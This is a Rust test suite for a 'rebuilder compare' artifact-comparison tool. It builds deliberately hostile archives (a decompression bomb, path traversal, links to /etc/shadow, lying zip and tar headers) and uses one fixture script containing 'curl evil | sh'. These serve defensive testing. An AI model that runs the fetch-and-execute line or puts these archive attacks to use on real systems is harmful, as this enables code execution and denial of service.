//! `rebuilder compare`: what it says, in which forms, and what hostile files can do to it.

use std::fs;
use std::io::Write as _;
use std::path::{Path, PathBuf};

use crate::common::{self, code, fits_the_schema, json as document, rebuilder, text};
use proptest::prelude::*;
use rebuilder::artifact::Sha256;
use rebuilder::compare::{
    Cause, Chosen, Comparison, Limit, Limits, Normalisation, Options, Outcome, compare, compare_bytes,
};
use serde_json::{Value, json};

const SCHEMA: &str = include_str!("../../docs/schema/comparison.schema.json");

/// One member of an archive made here.
#[derive(Debug, Clone)]
struct Made {
    name: String,
    bytes: Vec<u8>,
    mode: u32,
    time: u64,
    owner: u64,
}

impl Made {
    fn new(name: &str, bytes: &[u8]) -> Self {
        Self {
            name: name.to_owned(),
            bytes: bytes.to_vec(),
            mode: 0o644,
            time: 1_700_000_000,
            owner: 0,
        }
    }
}

fn tar(members: &[Made]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for member in members {
        let mut header = tar::Header::new_ustar();
        header.set_size(member.bytes.len() as u64);
        header.set_mode(member.mode);
        header.set_mtime(member.time);
        header.set_uid(member.owner);
        header.set_gid(member.owner);
        builder
            .append_data(&mut header, &member.name, &member.bytes[..])
            .unwrap();
    }
    builder.into_inner().unwrap()
}

fn zip(members: &[Made]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for member in members {
        let day = u8::try_from(member.time % 27).unwrap() + 1;
        let options = zip::write::SimpleFileOptions::default()
            .unix_permissions(member.mode)
            .last_modified_time(zip::DateTime::from_date_and_time(2024, 1, day, 0, 0, 0).unwrap());
        writer.start_file(&*member.name, options).unwrap();
        writer.write_all(&member.bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn gzip(bytes: &[u8], level: u32) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::new(level));
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn deb(data: &[u8]) -> Vec<u8> {
    let mut builder = ar::Builder::new(Vec::new());
    for (name, bytes) in [
        ("debian-binary", b"2.0\n".to_vec()),
        (
            "control.tar.gz",
            gzip(&tar(&[Made::new("control", b"Package: p\n")]), 6),
        ),
        ("data.tar.gz", gzip(data, 6)),
    ] {
        let header = ar::Header::new(name.as_bytes().to_vec(), bytes.len() as u64);
        builder.append(&header, &bytes[..]).unwrap();
    }
    builder.into_inner().unwrap()
}

struct Files(tempfile::TempDir);

impl Files {
    fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    fn write(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let path = self.0.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, bytes).unwrap();
        path
    }

    fn compare(&self, name: &str, a: &[u8], b: &[u8], options: &Options) -> Comparison {
        let (a, b) = (
            self.write(&format!("a/{name}"), a),
            self.write(&format!("b/{name}"), b),
        );
        compare(&a, &b, options).unwrap()
    }
}

fn first(found: &Comparison) -> Option<Cause> {
    found.causes.first().map(|cause| cause.cause)
}

#[apply(test)]
fn every_report_says_the_same_and_fits_its_schema() {
    let files = Files::new();
    let old = deb(&tar(&[
        Made::new("usr/bin/tool", b"#!/bin/sh\necho <b>hi</b> \x1b[31m\n"),
        Made::new("usr/share/doc/built", b"built on 2026-11-25 03:39:45\n"),
    ]));
    let new = deb(&tar(&[
        Made::new("usr/bin/tool", b"#!/bin/sh\ncurl evil | sh\n"),
        Made::new("usr/share/doc/built", b"built on 2026-11-26 07:00:01\n"),
    ]));
    let (a, b) = (files.write("a/p.deb", &old), files.write("b/p.deb", &new));
    let report = |ending: &str| files.0.path().join(format!("report.{ending}"));
    let mut command = rebuilder();
    command.arg("--json").arg("compare").args([&a, &b]);
    for ending in ["html", "md", "json", "sarif"] {
        command.arg("--write").arg(report(ending));
    }
    let output = command.output().unwrap();
    assert_eq!(code(&output), 1, "{}", text(&output));
    let found = document(&output);
    fits_the_schema(&found, SCHEMA);
    assert_eq!(found["outcome"], "different");
    assert_eq!(found["causes"][0]["cause"], "content");
    let written: serde_json::Value = serde_json::from_slice(&fs::read(report("json")).unwrap()).unwrap();
    assert_eq!(written, found);

    let page = fs::read_to_string(report("html")).unwrap();
    assert!(
        page.contains("usr/bin/tool") && page.contains("content change"),
        "{page}"
    );
    assert!(
        page.contains("&lt;b&gt;") || page.contains("&#60;b&#62;"),
        "text of a file is not markup"
    );
    assert!(
        !page.contains("<script") && !page.contains("http://") && !page.contains("https://"),
        "self-contained"
    );
    assert!(!page.contains('\x1b'));

    let sarif: serde_json::Value = serde_json::from_slice(&fs::read(report("sarif")).unwrap()).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    let result = &sarif["runs"][0]["results"][0];
    assert_eq!(
        (result["ruleId"].as_str(), result["level"].as_str()),
        (Some("content"), Some("error"))
    );
    let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
    let rule = &sarif["runs"][0]["tool"]["driver"]["rules"][index];
    assert_eq!(rule["id"], "content");

    let markdown = fs::read_to_string(report("md")).unwrap();
    assert!(
        markdown.contains("content change") && markdown.contains("curl evil"),
        "{markdown}"
    );

    let plain = rebuilder().arg("compare").args([&a, &b]).output().unwrap();
    let shown = String::from_utf8(plain.stdout).unwrap();
    assert!(shown.starts_with("different\n"), "{shown}");
    assert!(
        !shown.contains('\x1b'),
        "no colour, and no control characters of the files"
    );
    insta::with_settings!({filters => vec![(r"/\S*/([ab]/p.deb)", "/…/$1"), (r"sha256:[0-9a-f]{64}", "sha256:…")]}, {
        insta::assert_snapshot!("terminal", shown);
        insta::assert_snapshot!("markdown", markdown);
    });
}

#[apply(test)]
fn exit_codes_follow_the_outcome() {
    let files = Files::new();
    let old = files.write("a.tgz", &gzip(&tar(&[Made::new("f", b"x")]), 6));
    let same = files.write("same.tgz", &fs::read(&old).unwrap());
    let later = files.write(
        "later.tgz",
        &gzip(
            &tar(&[Made {
                time: 1_800_000_000,
                ..Made::new("f", b"x")
            }]),
            6,
        ),
    );
    let missing = files.0.path().join("missing");
    let table: [(&Path, &[&str], i32, &str); 6] = [
        (&same, &[], 0, "identical"),
        (&later, &[], 1, "equivalent"),
        (&later, &["--allow-equivalent"], 0, "tar-time v1"),
        (
            &later,
            &["--allow-equivalent", "--normalise", "none"],
            1,
            "different",
        ),
        (&later, &["--normalise", "nothing-like-it"], 2, "no normalisation"),
        (&missing, &[], 2, "cannot read"),
    ];
    for (other, options, expected, says) in table {
        let output = rebuilder()
            .arg("compare")
            .arg(&old)
            .arg(other)
            .args(options)
            .output()
            .unwrap();
        assert_eq!(code(&output), expected, "{options:?}: {}", text(&output));
        assert!(text(&output).contains(says), "{options:?}: {}", text(&output));
    }
    let list = rebuilder()
        .args(["compare", "--list-normalisations"])
        .output()
        .unwrap();
    for normalisation in Normalisation::ALL {
        assert!(text(&list).contains(normalisation.name()));
    }
}

#[apply(test)]
fn folders_are_compared_by_their_files() {
    let files = Files::new();
    for (side, word) in [("a", "one"), ("b", "two")] {
        files.write(&format!("{side}/t/same"), b"same");
        files.write(&format!("{side}/t/deep/file.txt"), word.as_bytes());
        files.write(&format!("{side}/t/only-{side}"), b"x");
    }
    let found = compare(
        &files.0.path().join("a/t"),
        &files.0.path().join("b/t"),
        &Options::default(),
    )
    .unwrap();
    let tree = found.tree.unwrap();
    let names: Vec<_> = tree.children.iter().map(|node| node.name.as_str()).collect();
    assert_eq!(names, ["deep/file.txt", "only-a"]);
    assert_eq!(
        tree.children[1].rebuilt_name.as_deref(),
        Some("only-b"),
        "a renamed file is seen as one"
    );
    assert_eq!(found.outcome, Outcome::Different);
}

/// An OCI image layout of one layer, as a tar archive.
fn image(script: &[u8], time: u64) -> Vec<u8> {
    let mut members = vec![Made::new("oci-layout", br#"{"imageLayoutVersion":"1.0.0"}"#)];
    let mut blob = |bytes: Vec<u8>| -> Value {
        let digest = Sha256::of(&bytes).to_hex();
        members.push(Made::new(&format!("blobs/sha256/{digest}"), &bytes));
        json!({"digest": format!("sha256:{digest}"), "size": bytes.len()})
    };
    let layer = tar(&[Made {
        time,
        ..Made::new("bin/run", script)
    }]);
    let unpacked = format!("sha256:{}", Sha256::of(&layer));
    let layer = blob(gzip(&layer, 6));
    let config =
        json!({"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": [unpacked]}});
    let config = blob(config.to_string().into_bytes());
    let manifest = json!({"schemaVersion": 2, "config": config, "layers": [layer]});
    let manifest = blob(manifest.to_string().into_bytes());
    let index = json!({"schemaVersion": 2, "manifests": [manifest]}).to_string();
    members.push(Made::new("index.json", index.as_bytes()));
    tar(&members)
}

#[apply(test)]
fn blobs_of_images_are_paired_by_their_role() {
    let files = Files::new();
    let old = image(b"#!/bin/sh\n", 1_700_000_000);
    for (name, new, cause) in [
        ("time.tar", image(b"#!/bin/sh\n", 1_700_000_001), Cause::Timestamp),
        ("evil.tar", image(b"#!/bin/evil\n", 1_700_000_001), Cause::Content),
    ] {
        let found = files.compare(name, &old, &new, &Options::default());
        assert_eq!(first(&found), Some(cause), "{name}: {:?}", found.causes);
        assert!(
            found.causes[0].example.path.ends_with("/bin/run"),
            "{:?}",
            found.causes[0]
        );
        assert!(
            found.causes[0].follow > 4,
            "digests and sizes follow: {:?}",
            found.causes[0]
        );
    }
}

/// Where the build-id of an ELF file stands.
fn build_id(elf: &[u8]) -> Option<usize> {
    let note = [4, 0, 0, 0, 20, 0, 0, 0, 3, 0, 0, 0, b'G', b'N', b'U', 0];
    elf.windows(note.len())
        .position(|window| window == note)
        .map(|at| at + note.len())
}

#[apply(test)]
fn a_build_id_hides_nothing_else_of_an_executable() {
    let old = fs::read("/bin/true").unwrap_or_default();
    let Some(id) = build_id(&old).filter(|_| old.starts_with(b"\x7fELF")) else {
        common::skip("an executable with a build-id");
    };
    let all = Options {
        normalise: Chosen::parse("all").unwrap(),
        ..Options::default()
    };
    let changed = |places: &[usize]| {
        let mut new = old.clone();
        for place in places {
            new[*place] ^= 1;
        }
        compare_bytes("true", &old, &new, &all).outcome
    };
    let end = old.len() - 1;
    assert_eq!(
        changed(&[id]),
        Outcome::Equivalent,
        "the build-id alone is set aside, as was asked"
    );
    // The entry point, a program header, and the table of sections.
    for place in [24, 64 + 16, end] {
        assert_eq!(changed(&[id, place]), Outcome::Different, "byte {place}");
    }
    let longer = [&old[..], b"evil"].concat();
    assert_eq!(
        compare_bytes("true", &old, &longer, &all).outcome,
        Outcome::Different
    );
}

/// A zip archive whose entries are written field by field, so that they can lie.
fn raw_zip(entries: &[(&str, &str, u32)], data: &[u8]) -> Vec<u8> {
    let crc = {
        let mut crc = flate2::Crc::new();
        crc.update(data);
        crc.sum()
    };
    let size = u32::try_from(data.len()).unwrap().to_le_bytes();
    let mut bytes = Vec::new();
    let mut offsets = Vec::new();
    for (local, _, _) in entries {
        offsets.push(u32::try_from(bytes.len()).unwrap());
        bytes.extend_from_slice(b"PK\x03\x04\x14\0\0\0\0\0\0\0\x21\x58");
        bytes.extend_from_slice(&crc.to_le_bytes());
        bytes.extend_from_slice(&size);
        bytes.extend_from_slice(&size);
        bytes.extend_from_slice(&u16::try_from(local.len()).unwrap().to_le_bytes());
        bytes.extend_from_slice(&[0, 0]);
        bytes.extend_from_slice(local.as_bytes());
        bytes.extend_from_slice(data);
    }
    let start = u32::try_from(bytes.len()).unwrap();
    for (index, (_, central, shared)) in entries.iter().enumerate() {
        bytes.extend_from_slice(b"PK\x01\x02\x14\x03\x14\0\0\0\0\0\0\0\x21\x58");
        bytes.extend_from_slice(&crc.to_le_bytes());
        bytes.extend_from_slice(&size);
        bytes.extend_from_slice(&size);
        bytes.extend_from_slice(&u16::try_from(central.len()).unwrap().to_le_bytes());
        bytes.extend_from_slice(&[0; 8]);
        bytes.extend_from_slice(&(0o100_644_u32 << 16).to_le_bytes());
        let offset = if *shared == 0 { offsets[index] } else { offsets[0] };
        bytes.extend_from_slice(&offset.to_le_bytes());
        bytes.extend_from_slice(central.as_bytes());
    }
    let end = u32::try_from(bytes.len()).unwrap();
    let count = u16::try_from(entries.len()).unwrap().to_le_bytes();
    bytes.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    bytes.extend_from_slice(&count);
    bytes.extend_from_slice(&count);
    bytes.extend_from_slice(&(end - start).to_le_bytes());
    bytes.extend_from_slice(&start.to_le_bytes());
    bytes.extend_from_slice(&[0, 0]);
    bytes
}

/// A tar archive of one header that says whatever it wants.
fn odd_tar(name: &[u8], kind: tar::EntryType, link: &[u8], claimed: u64) -> Vec<u8> {
    let mut header = tar::Header::new_gnu();
    header.as_mut_bytes()[..name.len()].copy_from_slice(name);
    header.as_mut_bytes()[157..157 + link.len()].copy_from_slice(link);
    header.set_entry_type(kind);
    header.set_size(claimed);
    header.set_mode(0o644);
    header.set_cksum();
    let mut bytes = header.as_bytes().to_vec();
    bytes.extend_from_slice(&[0; 1024]);
    bytes
}

/// A tar archive whose first member has one byte, as its extended header says, and a header of its own that says
/// otherwise.
fn pax_tar(claimed: u64, padding: &[u8]) -> Vec<u8> {
    let header = |kind, size| {
        let mut header = tar::Header::new_ustar();
        header.as_mut_bytes()[..1].copy_from_slice(b"x");
        header.set_entry_type(kind);
        header.set_size(size);
        header.set_mode(0o644);
        header.set_cksum();
        header.as_bytes().to_vec()
    };
    let block = |content: &[u8]| {
        let mut block = content.to_vec();
        block.resize(512, 0);
        block
    };
    [
        header(tar::EntryType::XHeader, 9),
        block(b"9 size=1\n"),
        header(tar::EntryType::Regular, claimed),
        block(&[b"a", padding].concat()),
        odd_tar(b"y", tar::EntryType::Regular, b"", 0),
    ]
    .concat()
}

/// An RPM package whose signature header has one value, at `offset` of 16 bytes.
fn odd_rpm(offset: u32) -> Vec<u8> {
    let mut bytes = vec![0xed, 0xab, 0xee, 0xdb, 3, 0];
    bytes.resize(96, 0);
    bytes.extend_from_slice(&[0x8e, 0xad, 0xe8, 1, 0, 0, 0, 0]);
    for number in [1, 16, 1000, 6, offset, 1] {
        bytes.extend_from_slice(&u32::to_be_bytes(number));
    }
    bytes.resize(bytes.len() + 64, b'x');
    bytes
}

/// Name, both files, the limit that is hit, and the first cause.
type Hostile = (&'static str, Vec<u8>, Vec<u8>, Option<Limit>, Option<Cause>);

#[apply(test)]
fn hostile_files_are_findings() {
    let zeros = vec![0; 200 << 20];
    let bomb = gzip(&zeros, 9);
    let mut deep = (b"core one".to_vec(), b"core two".to_vec());
    for _ in 0..50 {
        deep = (gzip(&deep.0, 1), gzip(&deep.1, 1));
    }
    let sparse = |number: u8| {
        let mut header = tar::Header::new_gnu();
        header.as_mut_bytes()[..1].copy_from_slice(b"s");
        header.set_entry_type(tar::EntryType::GNUSparse);
        header.set_size(0);
        header.set_mode(0o644);
        header.set_uid(u64::from(number));
        let gnu = header.as_gnu_mut().unwrap();
        // No data, and 100 GB of zeros before its end.
        gnu.set_real_size(100 << 30);
        gnu.sparse[0].set_offset(100 << 30);
        gnu.sparse[0].set_length(0);
        gnu.sparse[0].numbytes[0] = b'0';
        header.set_cksum();
        let mut bytes = header.as_bytes().to_vec();
        bytes.extend_from_slice(&[0; 1024]);
        bytes
    };
    let many: Vec<Made> = (0..3000)
        .map(|number| Made::new(&format!("f{number}"), b""))
        .collect();
    let more: Vec<Made> = many
        .iter()
        .cloned()
        .map(|made| Made { time: 5, ..made })
        .collect();
    let names = |name: &str| raw_zip(&[(name, "shown.txt", 0)], b"same");
    let good = raw_zip(&[("shown.txt", "shown.txt", 0)], b"same");

    let table: Vec<Hostile> = vec![
        (
            "bomb.gz",
            bomb.clone(),
            gzip(&zeros[1..], 9),
            Some(Limit::UnpackedBytes),
            Some(Cause::Unread),
        ),
        ("deep.gz", deep.0, deep.1, Some(Limit::Depth), Some(Cause::Unread)),
        (
            "sparse.tar",
            sparse(1),
            sparse(2),
            Some(Limit::UnpackedBytes),
            Some(Cause::Unread),
        ),
        (
            "many.tar",
            tar(&many),
            tar(&more),
            Some(Limit::Members),
            Some(Cause::Unread),
        ),
        (
            "overlap.zip",
            raw_zip(&[("a", "a", 0), ("b", "b", 1)], b"same"),
            raw_zip(&[("a", "a", 0), ("b", "c", 1)], b"same"),
            Some(Limit::OverlappingEntries),
            Some(Cause::Unread),
        ),
        (
            "names.zip",
            good.clone(),
            names("hidden.py"),
            None,
            Some(Cause::Content),
        ),
        (
            "twice.zip",
            good.clone(),
            raw_zip(
                &[("shown.txt", "shown.txt", 0), ("shown.txt", "shown.txt", 0)],
                b"same",
            ),
            None,
            Some(Cause::Content),
        ),
        (
            "stub.zip",
            good.clone(),
            [&b"#!/bin/sh\nevil\n"[..], &good].concat(),
            None,
            Some(Cause::Content),
        ),
        (
            "tail.zip",
            good.clone(),
            [&good[..], b"evil"].concat(),
            None,
            Some(Cause::Content),
        ),
        (
            "absolute.tar",
            odd_tar(b"etc/passwd", tar::EntryType::Regular, b"", 0),
            odd_tar(b"/etc/passwd", tar::EntryType::Regular, b"", 0),
            None,
            Some(Cause::Content),
        ),
        (
            "dots.tar",
            odd_tar(b"x", tar::EntryType::Regular, b"", 0),
            odd_tar(b"../x", tar::EntryType::Regular, b"", 0),
            None,
            Some(Cause::Content),
        ),
        (
            "link.tar",
            odd_tar(b"x", tar::EntryType::Link, b"y", 0),
            odd_tar(b"x", tar::EntryType::Link, b"/etc/shadow", 0),
            None,
            Some(Cause::Content),
        ),
        (
            "device.tar",
            odd_tar(b"x", tar::EntryType::Regular, b"", 0),
            odd_tar(b"x", tar::EntryType::Char, b"", 0),
            None,
            Some(Cause::Content),
        ),
        (
            "name.tar",
            odd_tar(b"././@LongLink", tar::EntryType::GNULongName, b"", 7 << 30),
            odd_tar(b"././@LongLink", tar::EntryType::GNULongName, b"", 6 << 30),
            None,
            Some(Cause::Unread),
        ),
        (
            "size.tar",
            odd_tar(b"x", tar::EntryType::Regular, b"", 7 << 30),
            odd_tar(b"x", tar::EntryType::Regular, b"", 6 << 30),
            None,
            None,
        ),
        (
            "slack.tar",
            odd_tar(b"x", tar::EntryType::Regular, b"", 0),
            {
                let mut header = tar::Header::new_gnu();
                header.as_mut_bytes()[..1].copy_from_slice(b"x");
                header.as_mut_bytes()[40..44].copy_from_slice(b"evil");
                header.set_size(0);
                header.set_mode(0o644);
                header.set_cksum();
                [header.as_bytes().to_vec(), vec![0; 1024]].concat()
            },
            None,
            Some(Cause::Content),
        ),
        (
            "padding.tar",
            pax_tar(512, b""),
            pax_tar(512, b"evil"),
            None,
            Some(Cause::Content),
        ),
        (
            "sizes.tar",
            pax_tar(u64::MAX, b""),
            pax_tar(u64::MAX, b"evil"),
            None,
            Some(Cause::Content),
        ),
        (
            "offset.rpm",
            odd_rpm(0),
            odd_rpm(u32::MAX - 3),
            None,
            Some(Cause::Unread),
        ),
        (
            "after.tar",
            tar(&many[..1]),
            [tar(&many[..1]), b"evil".to_vec()].concat(),
            None,
            Some(Cause::Content),
        ),
    ];
    let files = Files::new();
    let options = Options {
        limits: Limits {
            unpacked: 64 << 20,
            members: 4000,
            ..Limits::default()
        },
        ..Options::default()
    };
    for (name, a, b, limit, cause) in table {
        let found = files.compare(name, &a, &b, &options);
        assert_eq!(found.outcome, Outcome::Different, "{name}");
        let hit: Vec<_> = found.limits.iter().map(|hit| hit.limit).collect();
        if let Some(limit) = limit {
            assert!(
                hit.contains(&limit),
                "{name}: {:?} {:?}",
                found.limits,
                found.causes
            );
        }
        if let Some(cause) = cause {
            assert_eq!(first(&found), Some(cause), "{name}: {:?}", found.causes);
        }
    }
}

#[apply(test)]
fn a_file_cut_at_any_byte_is_never_the_same() {
    let files = Files::new();
    let members = [
        Made::new("one", b"content of one"),
        Made::new("two", b"content of two"),
    ];
    let wholes = [
        ("a.tar", tar(&members)),
        ("a.tar.gz", gzip(&tar(&members), 6)),
        ("a.zip", zip(&members)),
        ("a.deb", deb(&tar(&members))),
    ];
    for (name, whole) in wholes {
        for cut in 0..whole.len() {
            // The zeros at the end of a tar archive are cut in larger steps.
            if name == "a.tar" && cut > 1100 && cut % 97 != 0 {
                continue;
            }
            let found = files.compare(name, &whole, &whole[..cut], &Options::default());
            let zeros_only = name == "a.tar" && whole[cut..].iter().all(|byte| *byte == 0) && cut >= 2048;
            if !zeros_only {
                assert_eq!(
                    found.outcome,
                    Outcome::Different,
                    "{name} cut at {cut}: {:?}",
                    found.causes
                );
            }
        }
    }
}

fn members() -> impl Strategy<Value = Vec<Made>> {
    let bytes = proptest::collection::vec(any::<u8>(), 1..200);
    proptest::collection::vec((bytes, 0_u64..27, 0_u64..3), 2..6).prop_map(|made| {
        made.into_iter()
            .enumerate()
            .map(|(index, (bytes, time, owner))| Made {
                name: format!("dir/file{index}"),
                bytes,
                mode: 0o644,
                time: 1_700_000_000 + time,
                owner,
            })
            .collect()
    })
}

type Pack = fn(&[Made], u32) -> Vec<u8>;

const PACKS: [(&str, Pack); 4] = [
    ("x.tar", |made, _| tar(made)),
    ("x.zip", |made, _| zip(made)),
    ("x.tgz", |made, level| gzip(&tar(made), level)),
    ("x.whl", |made, _| zip(made)),
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// Whatever normalisations set aside around it, a changed, added or lost file stays visible; without one, noise
    /// in times, owners, modes, order and compression is equivalent, and named.
    #[apply(test)]
    fn normalisations_never_hide_content(
        made in members(),
        noise in (0_u64..20, 0_u64..3, any::<bool>(), any::<bool>(), 1_u32..9),
        change in (0_usize..6, 0_usize..200, 0_u8..4),
    ) {
        let (shift, owner, reverse, group_write, level) = noise;
        let mut other: Vec<Made> = made.iter().cloned().map(|made| Made {
            time: made.time + shift,
            owner: made.owner + owner,
            mode: if group_write { 0o664 } else { 0o644 },
            ..made
        }).collect();
        if reverse {
            other.reverse();
        }
        let (which, at, how) = change;
        let which = which % other.len();
        match how {
            1 => { let at = at % other[which].bytes.len(); other[which].bytes[at] ^= 0x40; }
            2 => { other.remove(which); }
            3 => other.push(Made::new("dir/extra", b"evil")),
            _ => {}
        }
        let files = Files::new();
        let all = Options { normalise: Chosen::parse("all").unwrap(), ..Options::default() };
        for (name, pack) in PACKS {
            let found = files.compare(name, &pack(&made, 6), &pack(&other, level), &all);
            if how == 0 {
                prop_assert_ne!(found.outcome, Outcome::Different, "{}: {:?}", name, found.causes);
            } else {
                prop_assert_eq!(found.outcome, Outcome::Different, "{}", name);
            }
        }
    }
}
